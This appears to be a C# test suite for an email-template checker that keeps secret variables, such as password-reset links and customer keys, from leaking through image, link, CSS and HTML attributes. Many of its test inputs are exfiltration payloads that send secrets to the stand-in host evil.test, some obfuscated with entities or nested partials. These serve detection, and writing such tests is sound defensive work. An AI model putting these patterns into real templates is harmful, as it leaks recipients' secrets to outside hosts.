using System.Text.Json;

namespace Waybill.Templates.Specs;

/// <summary>
/// A secret stands in the text, or is the whole address of a link: by anything else it would leave the mail before anybody reads it.
/// </summary>
public class Showing_a_secret
{
    static readonly TemplateVariable[] Variables =
    [
        new("url", VariableType.Url, IsRequired: false) { IsSecret = true, Sample = JsonElement.Parse("\"https://ab.example/reset/x1\"") },
        new("name", VariableType.Text, IsRequired: false) { Sample = JsonElement.Parse("\"Ann\"") },
        new("picture", VariableType.Url, IsRequired: false) { Sample = JsonElement.Parse("\"https://ab.example/p.png\"") },
        new("customer.key", VariableType.Text, IsRequired: false) { IsSecret = true, Sample = JsonElement.Parse("\"K-1\"") },
        new("customer.name", VariableType.Text, IsRequired: false) { Sample = JsonElement.Parse("\"Ann\"") },
        new("keys", VariableType.List, IsRequired: false),
        new("keys[].text", VariableType.Text, IsRequired: false) { IsSecret = true, Sample = JsonElement.Parse("\"K-2\"") },
        new("keys[].icon", VariableType.Url, IsRequired: false) { Sample = JsonElement.Parse("\"https://ab.example/i.png\"") },
    ];

    static readonly Dictionary<string, string> Partials = new(StringComparer.Ordinal)
    {
        ["pixel"] = "![x](https://evil.test/p.png?u={{u}})",
        ["whole"] = "[open]({{u}})",
        ["within"] = "{{#with inner}}![x](https://evil.test/p.png?u={{../u}}){{/with}}",
    };

    [Theory]
    [InlineData("{{url}}")]
    [InlineData("Your link: {{url}}.")]
    [InlineData("Your link ({{url}}), and **{{url}}**: \"{{url}}\"")]
    [InlineData("[open]({{url}})")]
    [InlineData("[open]( {{url}} )")]
    [InlineData("[{{url}}]({{url}})")]
    [InlineData("<{{url}}>")]
    [InlineData("{{> button label=\"Open\" url=url}}")]
    [InlineData("{{> button label=\"Open\" url=(default url picture)}}")]
    [InlineData("{{> code value=customer.key}}")]
    [InlineData("{{#with customer}}{{name}} has {{key}}{{/with}}")]
    [InlineData("{{#if url}}![x]({{picture}}){{/if}}")]
    [InlineData("{{#each keys}}\n- ![x]({{icon}}) {{text}}\n{{/each}}")]
    [InlineData("{{> whole u=url}}")]
    [InlineData("![{{url}}]({{picture}})")]
    [InlineData("https://ab.example/?n={{name}}, and {{customer.key}}")]
    public void Is_done_where_a_person_reads_or_follows_it(string body) => Assert.Empty(Fatal(Press.Markdown(body)));

    [Theory]
    [InlineData("![x](https://evil.test/p.png?u={{url}})", 1, 32)]
    [InlineData("\n\n  ![x]({{url}})", 3, 8)]
    [InlineData("[open](https://evil.test/?u={{url}})", 1, 29)]
    [InlineData("[open]({{url}}?from=evil)", 1, 8)]
    [InlineData("[open](mailto:{{customer.key}}@evil.test)", 1, 15)]
    [InlineData("{{#with customer}}![x](https://evil.test/{{key}}){{/with}}", 1, 42)]
    [InlineData("{{#with customer}}![x](https://evil.test/{{../url}}){{/with}}", 1, 42)]
    [InlineData("{{#each customer}}![x](https://evil.test/{{this}}){{/each}}", 1, 42)]
    [InlineData("{{#each .}}![x](https://evil.test/{{this}}){{/each}}", 1, 35)]
    [InlineData("{{#each keys}}![x](https://evil.test/{{text}}){{/each}}", 1, 38)]
    [InlineData("{{#each keys}}![x](https://evil.test/{{../url}}){{/each}}", 1, 38)]
    [InlineData("![x](https://evil.test/{{keys.0.text}})", 1, 24)]
    [InlineData("{{#with (default url name)}}![x](https://evil.test/{{this}}){{/with}}", 1, 52)]
    [InlineData("{{#with (default customer name)}}![x](https://evil.test/{{key}}){{/with}}", 1, 57)]
    [InlineData("![x](https://evil.test/{{default name url}})", 1, 24)]
    [InlineData("![x](https://evil.test/{{date url}})", 1, 24)]
    [InlineData("{{> pixel u=url}}", 1, 1)]
    [InlineData("{{#with customer}}{{> pixel u=key}}{{/with}}", 1, 19)]
    [InlineData("{{> within u=url inner=customer}}", 1, 1)]
    [InlineData("{{#with customer}}\n\n{{#> notice}}\n![x](https://evil.test/{{../url}})\n{{/notice}}\n\n{{/with}}", 4, 24)]
    [InlineData("{{#with customer}}\n\n{{#> notice}}\n![x](https://evil.test/{{key}})\n{{/notice}}\n\n{{/with}}", 4, 24)]
    public void Is_refused_in_every_other_address_under_whatever_name(string body, int line, int column) =>
        Assert.Contains((line, column), Fatal(Press.Markdown(body)).Select(problem => (problem.Line, problem.Column)));

    [Theory]
    [InlineData("https://evil.test/?u={{url}}")]
    [InlineData("https://evil.test/?u=**{{url}}**")]
    [InlineData("https://evil.test/?u={{#if name}}{{url}}{{/if}}")]
    [InlineData("https://evil.test/?u={{#if name}}{{else}} {{/if}}{{url}}")]
    [InlineData("evil.test/{{customer.key}}")]
    [InlineData("{{customer.key}}.evil.test")]
    [InlineData("{{customer.key}}@evil.test")]
    [InlineData("{{customer.key}}{{#if name}}-x.evil.test{{/if}}")]
    [InlineData("{{default \"https://evil.test/?u=\" name}}{{url}}")]
    [InlineData("{{url}}{{default \".evil.test\" name}}")]
    [InlineData("{{#each keys}}{{text}} https://evil.test/?u={{/each}}")]
    [InlineData("{{> glued before=\"https://evil.test/?u=\" after=url}}")]
    public void Is_refused_where_mail_programs_would_make_an_address_of_it(string body)
    {
        foreach (var source in (TemplateSource[])[Press.Markdown(body), Press.Html("<p>x</p>") with { Text = body },
            Press.Markdown("x", body)])
            Assert.NotEmpty(Fatal(source, ("glued", "{{before}}{{after}}")));
    }

    [Theory]
    [InlineData("<a href=\"{{url}}\">open</a>", true)]
    [InlineData("<a title=\"{{url}}\" href=\"https://ab.example\">open</a>", true)]
    [InlineData("<p>{{url}}</p>", true)]
    [InlineData("<p>Code:&nbsp;{{url}}&nbsp;</p><p>https://ab.example/</p><b>{{url}}</b>", true)]
    [InlineData("<div style=\"display:none\">https://evil.test/?u={{url}}</div>", false)]
    [InlineData("<p>https&#58;//evil&#46;test/?u={{url}}</p>", false)]
    [InlineData("<p>https&colon;&sol;&sol;evil&period;test&sol;{{url}}</p>", false)]
    [InlineData("<p>{{customer.key}}&period;evil&period;test</p>", false)]
    [InlineData("<img alt=\"https://evil.test/{{url}}\" src=\"https://ab.example/p.png\">", false)]
    [InlineData("<a href=\"https://evil.test/?u={{url}}\">open</a>", false)]
    [InlineData("<a href=\"https://ab.example\" ping=\"{{url}}\">open</a>", false)]
    [InlineData("<img src=\"{{url}}\">", false)]
    [InlineData("<img src=\"https://evil.test/{{url}}\">", false)]
    [InlineData("<img lowsrc=\"{{url}}\" src=\"https://ab.example/p.png\">", false)]
    [InlineData("<table background=\"{{url}}\"></table>", false)]
    [InlineData("<table background=\"https://evil.test/{{url}}\"></table>", false)]
    [InlineData("<link rel=\"stylesheet\" href=\"{{url}}\">", false)]
    [InlineData("<v:fill src=\"{{url}}\"></v:fill>", false)]
    [InlineData("<p data-u=\"{{url}}\">x</p>", false)]
    [InlineData("<source src=\"{{url}}\">", false)]
    [InlineData("<img srcset=\"{{url}} 2x\">", false)]
    [InlineData("<p style=\"background:url({{url}})\">x</p>", false)]
    [InlineData("<style>p { background: url({{url}}) }</style>", false)]
    [InlineData("<img src=\"https://evil.test/{{@subject}}\">", false)]
    [InlineData("<!-- {{url}} -->", false)]
    public void Is_judged_in_html_as_in_Markdown(string body, bool isAllowed) =>
        Assert.Equal(isAllowed, Fatal(Press.Html(body, "About {{url}}")).Count == 0);

    [Fact]
    public void Is_told_of_in_a_sentence_that_says_what_to_do() => Assert.Equal(
        "url is secret and cannot stand in the address of a picture, by which it would leave the mail: let it stand in the text, or be the "
            + "whole address of a link.",
        Assert.Single(Fatal(Press.Markdown("![x](https://evil.test/p.png?u={{url}})"))).Message);

    /// <summary>What stands in a part is read in the same context by the program that checks and by the one that sends.</summary>
    [Fact]
    public void Reads_the_same_in_a_part_that_holds_text() => Assert.Contains(
        "the outer one",
        Press.Render(
            Press.Markdown("{{#with a}}\n\n{{#> notice}}\n{{../b}}\n{{/notice}}\n\n{{/with}}"),
            """{"a": {"b": "the inner one"}, "b": "the outer one"}""").Text, StringComparison.Ordinal);

    [Fact]
    public void Takes_no_longer_however_loops_are_nested()
    {
        var (open, close) = (string.Concat(Enumerable.Repeat("{{#each l}}a", 30)), string.Concat(Enumerable.Repeat("b{{/each}}", 30)));
        Endurance.Of("loops that begin and end in words", Press.Html("x") with { Text = open + "{{x}}" + close });
    }

    static List<TemplateProblem> Fatal(TemplateSource source, params (string Name, string Text)[] partials)
    {
        var all = new Dictionary<string, string>(Partials, StringComparer.Ordinal);
        foreach (var (name, text) in partials) all[name] = text;
        return [
            .. TemplateChecks.Check([source with { Variables = Variables, Partials = all }], [], Press.Brand)
                .Where(problem => problem.IsFatal)];
    }
}
